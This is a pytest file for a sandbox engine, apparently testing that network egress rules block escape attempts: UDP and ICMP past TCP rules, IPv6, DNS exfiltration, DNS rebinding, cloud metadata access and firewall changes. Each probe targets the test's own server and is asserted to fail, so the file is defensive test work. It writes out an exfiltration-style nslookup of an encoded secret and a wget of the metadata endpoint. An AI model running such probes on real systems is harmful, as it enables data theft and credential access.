"""SECURITY.md's network probes under a policy: what a sandbox tries to get past its rules, and must not.

Each probe is the sandbox's own attempt (busybox's nc, ping, nslookup, ip) at
a server of the test's own (tests/support/netns.py); what arrived is read from
the server's logs, what was refused from the engine's denied log.
"""

from __future__ import annotations

import contextlib
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandboxes.engine import errors
from tests.engine.engines import separate_engine, wait_for
from tests.engine.networks import NAMES, connect, host_devices, net_engine, table_objects
from tests.engine.test_name_proxy import client_hello, hosts
from tests.support.engine import EngineProcess
from tests.support.netns import Server, allow, server

__all__ = ["net_engine", "server", "NAMES"]  # fixtures

pytestmark = pytest.mark.root


def test_udp_and_icmp_get_nowhere_under_a_tcp_rule(net_engine: EngineProcess, server: Server, probe_binary: Path):
    with net_engine.client() as client:
        sandbox = client.create(template="base", size="tiny", network=allow(server, 8080))["id"]
        client.write_file(sandbox, "/probe", probe_binary.read_bytes(), mode=0o755)
        client.exec(sandbox, ["/probe", "udp_send", f"{server.address}:8080", "datagram\n"])
        assert server.received(8080, protocol="udp") == b"", "a UDP datagram got past a TCP rule"
        network = client.call("stats", id=sandbox)["network"]
        assert network["denied_packets"] > 0
        assert any(item["protocol"] == "udp" and item["port"] == 8080 for item in network["denied"])
        # ICMP: no socket for it at all (no CAP_NET_RAW, no ping group), let alone a way out.
        assert b"RESULT OK" not in client.exec(sandbox, ["/probe", "icmp_socket"]).stdout
        # The same datagram under a UDP rule arrives: the probe above could succeed.
        client.call("network.set", id=sandbox, network=allow(server, 8080, protocol="udp"))
        client.exec(sandbox, ["/probe", "udp_send", f"{server.address}:8080", "allowed\n"])
        wait_for(lambda: server.received(8080, protocol="udp").startswith(b"allowed\n"), "the allowed datagram")
        client.destroy(sandbox)


def test_a_sandbox_has_no_ipv6_way_out(net_engine: EngineProcess, server: Server):
    """No IPv6 address, not even a link-local one, on either end of its link, and no route (its loopback's
    ::1 is its own)."""
    with net_engine.client() as client:
        sandbox = client.create(template="base", size="tiny", network={"egress": [{"cidr": "0.0.0.0/0", "protocol": "any"}]})[
            "id"
        ]
        inside = client.exec(sandbox, "ip -6 addr show dev eth0; ip -6 route show dev eth0")
        assert inside.exit_code == 0 and inside.stdout.strip() == b"", inside
        assert client.exec(sandbox, "echo x | nc -w 2 2001:db8::1 8080").exit_code != 0
        host_side = [device for device in host_devices(net_engine)]
        assert len(host_side) == 1
        assert subprocess.run(["ip", "-6", "addr", "show", "dev", host_side[0]], capture_output=True, text=True).stdout == ""
        client.destroy(sandbox)


def test_names_it_may_not_resolve_never_leave_the_host(server: Server, work_dir: Path):
    """DNS exfiltration: a query for a name no rule allows is refused on the host and never asked of the
    upstream resolver (here the test's own server, which logs every query); an allowed one is."""
    with separate_engine(work_dir / "upstream", env={"FORKYARD_ENGINE_NETWORK_UPSTREAM": server.address}) as engine:
        with engine.client() as client:
            rule = {"host": "*.allowed.fytest.example", "ports": [8080]}
            sandbox = client.create(template="base", size="tiny", network={"egress": [rule]})["id"]
            secret = "c2VjcmV0LWRhdGE.exfil.fytest.example"
            client.exec(sandbox, f"nslookup {secret}")
            client.exec(sandbox, "nslookup a.allowed.fytest.example")
            wait_for(lambda: b"allowed" in server.received(53), "the allowed name's query upstream")
            assert b"exfil" not in server.received(53) and b"c2VjcmV0" not in server.received(53)
            denied = client.call("stats", id=sandbox)["network"]["denied"]
            assert any(item["protocol"] == "dns" and item["name"] == secret.lower() for item in denied)
            client.destroy(sandbox)
        subprocess.run(["nft", "delete", "table", "inet", engine.config.network_table], capture_output=True)


def test_a_name_that_rebinds_into_a_private_range_is_not_followed(server: Server, work_dir: Path):
    """DNS rebinding: a name its policy allows resolves first to a public address, then (the attacker's
    server changed its answer) to a private one, here the test's own server. The resolver drops private
    answers of upstream names, so the second answer gives the sandbox nothing and nothing arrives."""
    name = "rebind.fytest.example"
    server.answer({name: ["203.0.113.7"]})  # documentation space: never sent to, only given out
    with separate_engine(work_dir / "rebind", env={"FORKYARD_ENGINE_NETWORK_UPSTREAM": server.address}) as engine:
        with engine.client() as client:
            sandbox = client.create(template="base", size="tiny", network={"egress": [{"host": name, "ports": [8080]}]})["id"]
            first = client.exec(sandbox, f"nslookup {name}")
            assert b"203.0.113.7" in first.stdout, first  # the upstream's public answer came through
            server.answer({name: [server.address, "203.0.113.8"]})
            second = client.exec(sandbox, f"nslookup {name}")
            assert b"203.0.113.8" in second.stdout and server.address.encode() not in second.stdout, second
            server.answer({name: [server.address]})
            assert server.address.encode() not in client.exec(sandbox, f"nslookup {name}").stdout
            assert client.exec(sandbox, f"echo rebound | nc -w 3 {server.address} 8080").exit_code != 0
            assert server.received(8080) == b""
            client.destroy(sandbox)
        subprocess.run(["nft", "delete", "table", "inet", engine.config.network_table], capture_output=True)


METADATA_ADDRESS = "169.254.169.254"


def test_metadata_gets_nothing_under_the_widest_rule_and_a_rule_cannot_name_it(net_engine: EngineProcess, server: Server):
    """The metadata address, routed by the test to its own server (which takes that address too): were a
    packet to get out, it would land there. Under a rule allowing everything, nothing does; a rule
    naming it is refused, since it would reach nothing."""
    widest = {"egress": [{"cidr": "0.0.0.0/0", "protocol": "any"}, *allow(server, 8080)["egress"]]}
    with server.taking(METADATA_ADDRESS), net_engine.client() as client:
        sandbox = client.create(template="base", size="tiny", network=widest)["id"]
        assert connect(client, sandbox, server.address, 8080, "control") == (0, b"pong control\n")
        assert connect(client, sandbox, METADATA_ADDRESS, 80)[0] != 0
        assert client.exec(sandbox, f"wget -q -T 3 -O - http://{METADATA_ADDRESS}/latest/meta-data/").exit_code != 0
        assert server.received(80, METADATA_ADDRESS) == b""
        denied = {item["address"]: item for item in client.call("stats", id=sandbox)["network"]["denied"]}
        assert "metadata" in denied[METADATA_ADDRESS]["rule"]
        with pytest.raises(errors.InvalidRequest) as refused:
            client.call("network.set", id=sandbox, network={"egress": [{"cidr": f"{METADATA_ADDRESS}/32", "ports": [80]}]})
        assert refused.value.details.get("field") == "network.egress.0.cidr", refused.value.details
        client.destroy(sandbox)


def test_root_in_a_sandbox_cannot_change_a_firewall(net_engine: EngineProcess, server: Server, probe_binary: Path):
    """An nftables table made through nfnetlink, as nft makes one: on the host, in a namespace of its own,
    the probe does it (the control); in a sandbox the kernel refuses, and the host's rules are as they were."""
    control = subprocess.run(["unshare", "-n", str(probe_binary), "nft_table", "probe"], capture_output=True, text=True)
    assert control.stdout.strip() == "RESULT OK", control
    with net_engine.client() as client:
        sandbox = client.create(template="base", size="tiny", network=allow(server, 8080))["id"]
        before = table_objects(net_engine)
        client.write_file(sandbox, "/probe", probe_binary.read_bytes(), mode=0o755)
        tried = client.exec(sandbox, ["/probe", "nft_table", "escape"])
        assert tried.stdout.startswith(b"RESULT ") and b"RESULT OK" not in tried.stdout, tried
        assert table_objects(net_engine) == before
        assert connect(client, sandbox, server.address, 8081)[0] != 0
        assert server.received(8081) == b""
        client.destroy(sandbox)


@contextlib.contextmanager
def holder(address: str) -> Iterator[list[socket.socket]]:
    """A listener on ``address``:443 (the host's side of the test's own veth: this machine) that accepts and
    holds every connection until it is closed by the other end."""
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, 443))
    listener.listen(16)
    held: list[socket.socket] = []

    def accept() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            held.append(connection)

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield held
    finally:
        listener.close()
        for connection in held:
            connection.close()


def test_destroy_leaves_no_proxied_connection_behind(net_engine: EngineProcess, server: Server):
    name = "hold.fytest.example"
    near = server.address.rsplit(".", 1)[0] + ".1"  # the host's own end of the test's veth
    hosts(net_engine, f"{near} {name}\n")
    with holder(near) as held, net_engine.client() as client:
        sandbox = client.create(template="base", size="tiny", network={"egress": [{"host": name, "ports": [443]}]})["id"]
        client.write_file(sandbox, "/tmp/hello", client_hello(name))
        client.exec(sandbox, f"setsid sh -c '(cat /tmp/hello; sleep 600) | nc {server.other} 443' >/dev/null 2>&1 < /dev/null &")
        wait_for(lambda: client.info()["name_proxies"]["open_connections"] == 1 and held, "the held connection")
        assert client.info()["name_proxies"]["listeners"] == 1
        client.destroy(sandbox)
        wait_for(lambda: client.info()["name_proxies"]["open_connections"] == 0, "the proxied connection to close")
        wait_for(lambda: all(connection.recv(1) == b"" for connection in held), "the upstream side to be closed")
        assert client.info()["name_proxies"]["listeners"] == 0 and client.info()["resolvers"] == 0
        assert table_objects(net_engine) == []
